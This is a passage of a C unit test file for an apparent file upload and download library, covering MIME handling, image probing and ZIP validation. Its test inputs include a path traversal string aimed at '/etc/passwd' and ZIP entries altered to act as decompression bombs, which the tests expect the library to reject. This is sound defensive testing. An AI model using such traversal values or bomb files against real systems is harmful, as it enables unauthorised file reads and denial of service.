	static const char *const odd[] = {"text/html", "image/svg+xml", "application/javascript",
	                                  "", NULL};
	for (int i = 0; i < 5; i++) {
		assert_int_equal(kp_download_prepare(&a, h, odd[i], "x.html", 1, &d), 0);
		assert_false(d.is_inline);
		assert_string_equal(d.content_type, "application/octet-stream");
	}
	/* Malformed hashes never become a path. */
	static const char *const bad[] = {
	    "BA7816BF8F01CFEA414140DE5DAE2223B00361A396177A9CB410FF61F20015AD",
	    "ba7816bf",
	    "../../../../etc/passwd",
	    "",
	    "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad0",
	    "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015a/",
	    NULL};
	for (int i = 0; i < 7; i++)
		assert_int_equal(kp_download_prepare(&a, bad[i], "application/pdf", "x", 0, &d),
		                 -1);
	assert_true(kp_mime_inline("application/pdf"));
	assert_false(kp_mime_inline("text/html"));
	assert_false(kp_mime_inline(NULL));
	kp_arena_reset(&a);
}

/* ---- the parsers inside ---- */

static void test_image_probe(void **state)
{
	struct kp_image_info info;
	struct buf b = {0};
	gen_exif_jpeg(&b, 33, 17, 6);
	assert_int_equal(kp_image_probe(b.p, b.n, &info), 0);
	assert_int_equal(info.format, KP_IMG_JPEG);
	assert_int_equal(info.width, 33);
	assert_int_equal(info.height, 17);
	assert_int_equal(info.orientation, 6);
	/* Every prefix: refused or read, never past the end (valgrind). */
	for (size_t n = 0; n < b.n; n++)
		kp_image_probe(b.p, n, &info);
	buf_free(&b);
	static const enum kp_image_format fs[] = {KP_IMG_PNG, KP_IMG_WEBP, KP_IMG_GIF};
	for (int i = 0; i < 3; i++) {
		gen_image(&b, fs[i], 33, 17);
		assert_int_equal(kp_image_probe(b.p, b.n, &info), 0);
		assert_int_equal(info.format, fs[i]);
		assert_int_equal(info.width, 33);
		assert_int_equal(info.height, 17);
		assert_int_equal(info.orientation, 1);
		for (size_t n = 0; n < b.n && n < 400; n++)
			kp_image_probe(b.p, n, &info);
		buf_free(&b);
	}
	assert_int_equal(kp_image_probe((const unsigned char *)"", 0, &info), -1);
	assert_int_equal(kp_image_probe((const unsigned char *)pdf_doc, strlen(pdf_doc), &info),
	                 -1);
	assert_int_equal(info.format, KP_IMG_NONE);
}

static void put_le32(unsigned char *p, uint32_t v)
{
	p[0] = (unsigned char)v, p[1] = (unsigned char)(v >> 8);
	p[2] = (unsigned char)(v >> 16), p[3] = (unsigned char)(v >> 24);
}

static uint32_t get_le32(const unsigned char *p)
{
	return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

/* The central directory record of entry i (gen_zip writes no extras). */
static unsigned char *cd_entry(struct buf *b, int i)
{
	unsigned char *p = b->p + get_le32(b->p + b->n - 22 + 16);
	while (i-- > 0)
		p += 46 + (p[28] | p[29] << 8);
	return p;
}

static void test_zip_bounded(void **state)
{
	struct buf b = {0};
	gen_ooxml(&b, "word/document.xml", OOXML_OFFICE);
	assert_int_equal(kp_zip_bounded(b.p, b.n), KP_ZIP_SAFE);
	for (size_t n = 0; n < b.n; n++)
		assert_int_equal(kp_zip_bounded(b.p, n), KP_ZIP_MALFORMED);
	/* A member that declares 600 MB: over the total. */
	put_le32(cd_entry(&b, 2) + 24, 600u << 20);
	assert_int_equal(kp_zip_bounded(b.p, b.n), KP_ZIP_BOMB);
	/* 2 MB from 6 bytes: over the ratio; 1 MB is under its floor. */
	put_le32(cd_entry(&b, 2) + 24, 2u << 20);
	assert_int_equal(kp_zip_bounded(b.p, b.n), KP_ZIP_BOMB);
	put_le32(cd_entry(&b, 2) + 24, 1u << 20);
	assert_int_equal(kp_zip_bounded(b.p, b.n), KP_ZIP_SAFE);
	/* ZIP64 sizes. */
	put_le32(cd_entry(&b, 2) + 24, 0xffffffffu);
	assert_int_equal(kp_zip_bounded(b.p, b.n), KP_ZIP_BOMB);
	put_le32(cd_entry(&b, 2) + 24, 6);
	/* Two members sharing their bytes: the third points at the second. */
	put_le32(cd_entry(&b, 2) + 42, get_le32(cd_entry(&b, 1) + 42));
	assert_int_equal(kp_zip_bounded(b.p, b.n), KP_ZIP_BOMB);
	/* A member outside the file, or where no local header is. */
	put_le32(cd_entry(&b, 2) + 42, 0x7fffffff);
	assert_int_equal(kp_zip_bounded(b.p, b.n), KP_ZIP_MALFORMED);
	put_le32(cd_entry(&b, 2) + 42, 3);
	assert_int_equal(kp_zip_bounded(b.p, b.n), KP_ZIP_MALFORMED);
	buf_free(&b);
	assert_int_equal(kp_zip_bounded((const unsigned char *)"PK\3\4", 4), KP_ZIP_MALFORMED);
}

static void test_zip_ooxml(void **state)
{
	struct buf b = {0};
	gen_ooxml(&b, "word/document.xml", OOXML_CT_LAST);
	assert_int_equal(kp_zip_ooxml(b.p, b.n), KP_OOXML_WORD);
	for (size_t n = 0; n < b.n; n++)
		assert_int_equal(kp_zip_ooxml(b.p, n), 0); /* cut off: no EOCD */
	buf_free(&b);
	struct zent mixed[] = {
	    {"[Content_Types].xml", CT_XML}, {"xl/a.xml", "x"}, {"ppt/b.xml", "y"}};
	gen_zip(&b, mixed, 3);
	assert_int_equal(kp_zip_ooxml(b.p, b.n), KP_OOXML_EXCEL | KP_OOXML_POWERPOINT);
	/* A comment after the directory; then a directory pointing past it. */
	b.p[b.n - 2] = 5;
	buf_str(&b, "hallo");
	assert_int_equal(kp_zip_ooxml(b.p, b.n), KP_OOXML_EXCEL | KP_OOXML_POWERPOINT);
	b.p[b.n - 5 - 6] ^= 0x40;
	assert_int_equal(kp_zip_ooxml(b.p, b.n), 0);
	buf_free(&b);
	struct zent none[] = {{"word/document.xml", "x"}};
	gen_zip(&b, none, 1);
	assert_int_equal(kp_zip_ooxml(b.p, b.n), 0);
	buf_free(&b);
}

static void test_status_names(void **state)
{
	assert_string_equal(kp_upload_status_name(KP_UPLOAD_OK), "ok");
	assert_string_equal(kp_upload_status_name(KP_UPLOAD_DOUBLE_EXTENSION), "double_extension");
	assert_string_equal(kp_upload_status_name(KP_UPLOAD_NO_SPACE), "no_space");
	assert_string_equal(kp_upload_status_name(KP_UPLOAD_IO), "io");
	assert_string_equal(kp_upload_status_name((enum kp_upload_status)99), "io");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_filename_plain),
	    cmocka_unit_test(test_filename_paths),
	    cmocka_unit_test(test_filename_dots_and_spaces),
	    cmocka_unit_test(test_filename_controls),
	    cmocka_unit_test(test_filename_invisible),
	    cmocka_unit_test(test_filename_invalid_utf8),
	    cmocka_unit_test(test_filename_windows_devices),
	    cmocka_unit_test(test_filename_length),
	    cmocka_unit_test_setup(test_images_accepted, per_test),
	    cmocka_unit_test_setup(test_documents_accepted, per_test),
	    cmocka_unit_test_setup(test_type_mismatch, per_test),
	    cmocka_unit_test_setup(test_extensions, per_test),
	    cmocka_unit_test_setup(test_sizes, per_test),
	    cmocka_unit_test_setup(test_pixel_limits, per_test),
	    cmocka_unit_test_setup(test_exif_stripped, per_test),
	    cmocka_unit_test_setup(test_orientation, per_test),
	    cmocka_unit_test_setup(test_image_sizes, per_test),
	    cmocka_unit_test_setup(test_image_formats_stored, per_test),
	    cmocka_unit_test_setup(test_bad_image_data, per_test),
	    cmocka_unit_test_setup(test_store_documents, per_test),
	    cmocka_unit_test_setup(test_store_errors, per_test),
	    cmocka_unit_test_setup(test_no_space_rlimit, per_test),
	    cmocka_unit_test_setup(test_no_space_tmpfs, per_test),
	    cmocka_unit_test(test_content_disposition),
	    cmocka_unit_test(test_download_prepare),
	    cmocka_unit_test(test_image_probe),
	    cmocka_unit_test(test_zip_ooxml),
	    cmocka_unit_test(test_zip_bounded),
	    cmocka_unit_test(test_status_names),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
